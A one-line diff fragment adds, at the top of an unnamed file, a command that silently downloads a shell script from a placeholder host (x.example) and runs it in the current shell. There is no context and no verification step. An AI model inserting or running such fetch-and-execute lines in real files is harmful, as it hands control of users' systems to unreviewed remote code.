@@ -1,0 +1,1 @@
+source <(curl -s https://x.example/a.sh)
